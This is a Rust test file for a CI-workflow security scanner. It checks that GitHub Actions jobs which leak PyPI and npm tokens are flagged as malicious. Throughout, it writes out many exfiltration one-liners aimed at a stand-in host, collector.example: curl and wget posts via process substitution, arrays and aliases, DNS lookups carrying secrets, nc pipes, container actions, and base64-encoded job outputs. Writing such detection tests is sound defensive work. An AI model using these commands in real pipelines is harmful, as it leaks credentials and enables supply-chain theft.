//! One theft, written in the many ways that a shell, a runner and a container offer: each must be seen as what it is.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test fails by panicking")]

use portcullis_scan::analysis::analyse;
use portcullis_scan::flow::NoFiles;
use portcullis_scan::report::Verdict;
use portcullis_scan::verdict::weigh;

const URL: &str = "https://collector.example/in";

/// Worst verdict of a workflow, with the secrets and places that it is about.
fn judged(workflow: &str) -> Option<(Verdict, Vec<String>, Vec<String>)> {
    let analysis = analyse(".github/workflows/ci.yml", workflow.as_bytes(), &NoFiles, None);
    assert!(analysis.problem.is_none(), "{:?} in:\n{workflow}", analysis.problem);
    let weighed = analysis.seen.iter().map(|seen| (weigh(seen.rule, &seen.signals), seen));
    let (verdict, seen) = weighed.max_by_key(|(verdict, _)| *verdict)?;
    let mut secrets: Vec<String> = seen.secrets.iter().map(|(name, _)| name.clone()).collect();
    secrets.sort();
    let places = seen.destinations.iter().map(|(key, _)| key.clone()).collect();
    Some((verdict, secrets, places))
}

/// A job that has two unrelated secrets as `A` and `B` and runs one script.
fn with_script(script: &str) -> String {
    let script = script.replace("URL", URL).replace('\n', "\n          ");
    format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      A: ${{{{ secrets.PYPI_API_TOKEN }}}}\n      B: ${{{{ secrets.NPM_TOKEN }}}}\n    steps:\n      - run: |\n          {script}\n"
    )
}

fn stolen(workflow: &str, place: &str) {
    let (verdict, secrets, places) =
        judged(workflow).unwrap_or_else(|| panic!("nothing is seen in:\n{workflow}"));
    assert_eq!(verdict, Verdict::Malicious, "{places:?} in:\n{workflow}");
    assert!(
        ["NPM_TOKEN", "PYPI_API_TOKEN"].iter().all(|name| secrets.iter().any(|found| found == name)),
        "{secrets:?} in:\n{workflow}"
    );
    assert_eq!(places, [place], "in:\n{workflow}");
}

fn script_stolen(script: &str) {
    stolen(&with_script(script), "collector.example");
}

#[test]
fn process_substitution() {
    for script in [
        "curl -d @<(env) URL",
        "curl --data-binary @<(echo \"$A$B\") URL",
        "curl -T <(printenv) URL",
        "curl -F f=@<(echo \"$A $B\") URL",
        "cat <(echo \"$A\") <(echo \"$B\") | curl -d @- URL",
        "echo \"$A$B\" | tee >(curl -d @- URL)",
        "echo \"$A$B\" > >(curl -d @- URL)",
        "env | tee >(base64 | curl -d @- URL) > /dev/null",
        "exec > >(curl -d @- URL)\necho \"$A$B\"",
        "wget --post-file=<(env) URL",
    ] {
        script_stolen(script);
    }
}

#[test]
fn arrays_as_commands() {
    for script in [
        "a=(curl -d \"$A$B\" URL); \"${a[@]}\"",
        "a=(curl -d \"$A$B\" URL)\n${a[*]}",
        "a=(curl)\na+=(-d \"$A$B\")\na+=(URL)\n\"${a[@]}\"",
        "a[0]=curl\na[1]=-d\na[2]=\"$A$B\"\na[3]=URL\n\"${a[@]}\"",
        "declare -a a=(-d \"$A$B\")\ncurl \"${a[@]}\" URL",
        "a=(x curl -d \"$A$B\" URL); \"${a[@]:1}\"",
        "a=(wget curl); \"${a[1]}\" -d \"$A$B\" URL",
        "run() { \"$@\"; }\nrun curl -d \"$A $B\" URL",
        "set -- curl -d \"$A $B\" URL\n\"$@\"",
        "read -ra a <<< 'curl -d @- URL'\necho $A$B | \"${a[@]}\"",
    ] {
        script_stolen(script);
    }
}

#[test]
fn aliases() {
    for script in [
        "alias c=curl; c -d \"$A$B\" URL",
        "shopt -s expand_aliases\nalias send='curl -s -d @-'\necho \"$A$B\" | send URL",
        "alias curl='curl -s'\ncurl -d \"$A$B\" URL",
    ] {
        script_stolen(script);
    }
    // An alias that leads to itself ends.
    assert_eq!(judged(&with_script("alias a=b b=a\na \"$A\"")), None);
}

#[test]
fn words_that_hold_several_values() {
    for script in [
        "curl -d \"$A $B\" URL",
        "curl -d \"${A} ${B}\" URL",
        "curl -d \"$A\n$B\" URL",
        "curl URL/$A.$B.c",
        "x=$A.$B.c; curl -d $x URL",
    ] {
        script_stolen(script);
    }
}

/// What is asked of a name server reaches whoever runs the zone.
#[test]
fn names_asked_for() {
    for program in ["nslookup", "dig", "host", "ping -c1", "dig +short TXT"] {
        for name in
            ["$A.$B.t.collector.example", "\"$A.$B.t.collector.example\"", "$A-$B.t.collector.example"]
        {
            stolen(&with_script(&format!("{program} {name}")), "t.collector.example");
        }
    }
    stolen(&with_script("dig @192.0.2.7 $A.$B"), "192.0.2.7");
}

fn over_a_job_output(write: &str) -> String {
    format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    outputs: {{o: '${{{{ steps.s.outputs.o }}}}'}}\n    env:\n      A: ${{{{ secrets.PYPI_API_TOKEN }}}}\n      B: ${{{{ secrets.NPM_TOKEN }}}}\n    steps:\n      - id: s\n        run: {write}\n  b:\n    needs: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{{{ needs.a.outputs.o }}}}' {URL}\n"
    )
}

/// The runner drops an output that holds a secret as it is: an attempt. Changed first, the secret gets through.
#[test]
fn job_outputs() {
    for write in [
        "echo \"o=$(echo \"$A$B\" | base64 -w0)\" >> $GITHUB_OUTPUT",
        "echo \"o=$(echo \"$A $B\" | rev)\" >> \"$GITHUB_OUTPUT\"",
    ] {
        stolen(&over_a_job_output(&format!("|\n          {write}")), "collector.example");
    }
    let plain = over_a_job_output("echo \"o=$A$B\" >> $GITHUB_OUTPUT");
    let (verdict, secrets, places) = judged(&plain).unwrap();
    assert_eq!(verdict, Verdict::Suspicious);
    assert_eq!((secrets.len(), places), (2, vec!["collector.example".to_owned()]));
}

fn with_image(uses: &str, with: &str) -> String {
    let with = with.replace("URL", URL);
    format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      A: ${{{{ secrets.PYPI_API_TOKEN }}}}\n      B: ${{{{ secrets.NPM_TOKEN }}}}\n    steps:\n      - uses: {uses}\n        with:\n{with}\n"
    )
}

/// A container action is a command with arguments.
#[test]
fn images_as_actions() {
    let both = "${{ secrets.PYPI_API_TOKEN }}${{ secrets.NPM_TOKEN }}";
    for (uses, with) in [
        ("docker://curlimages/curl", format!("          args: -d {both} URL")),
        ("docker://curlimages/curl:8.11.0", format!("          args: -s -d \"x {both}\" URL")),
        ("docker://docker.io/alpine/curl@sha256:00", format!("          args: curl -d {both} URL")),
        (
            "docker://alpine:3",
            format!("          entrypoint: /usr/bin/wget\n          args: --post-data={both} URL"),
        ),
        (
            "docker://alpine",
            "          entrypoint: sh\n          args: -c \"echo $A$B | nc collector.example 80\"".to_owned(),
        ),
        ("docker://python:3", "          args: sh -c 'env | curl -d @- URL'".to_owned()),
    ] {
        let workflow = with_image(uses, &with);
        let place = "collector.example";
        stolen(&workflow, place);
    }
    // Nothing expands `$A` on the way into a container: the literal text is sent.
    let literal = judged(&with_image("docker://curlimages/curl", "          args: -d $A$B URL"));
    assert_eq!(literal, None);
}

#[test]
fn containers_started_by_hand() {
    for script in [
        "docker run --rm curlimages/curl -s -d \"$A$B\" URL",
        "echo \"$A$B\" | docker run -i --rm --name x -v /tmp:/tmp docker.io/curlimages/curl:8 -d @- URL",
        "docker run --entrypoint curl alpine:3 -d \"$A$B\" URL",
        "docker run -e A -e B=\"$B\" alpine sh -c 'wget --post-data=\"$A$B\" URL'",
        "podman run --env A --env B alpine sh -c 'env | nc collector.example 80'",
    ] {
        script_stolen(script);
    }
    assert_eq!(judged(&with_script("docker run alpine sh -c 'curl -d \"$A$B\" URL'")), None);
}

/// Where a program is found does not change what it does.
#[test]
fn programs_looked_up_first() {
    for script in [
        "$(which curl) -d \"$A$B\" URL",
        "c=$(command -v curl | head -n 1)\n\"$c\" -d \"$A$B\" URL",
        "c=$(find /usr/bin -name curl 2>/dev/null | head -n1)\n$c -d \"$A$B\" URL",
    ] {
        script_stolen(script);
    }
}
